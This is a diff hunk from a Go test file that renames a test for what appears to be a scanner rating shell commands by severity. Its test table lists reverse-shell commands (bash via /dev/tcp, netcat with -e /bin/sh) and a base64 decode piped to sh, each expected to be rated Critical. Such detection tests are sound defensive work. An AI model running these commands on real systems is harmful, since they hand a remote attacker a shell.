@@ -57,7 +57,7 @@ func TestHostsAreReadAsClientsReadThem(t *testing.T) {
 	}
 }
 
-func TestCommandsThatAttackAreTold(t *testing.T) {
+func TestAttackingCommandsAreReported(t *testing.T) {
 	s := New(All())
 	for command, want := range map[string]Severity{
 		"bash -i >& /dev/tcp/1.2.3.4/99 0>&1": Critical, "nc -e /bin/sh 1.2.3.4 99": Critical, "echo aGk= | base64 -d | sh": Critical,
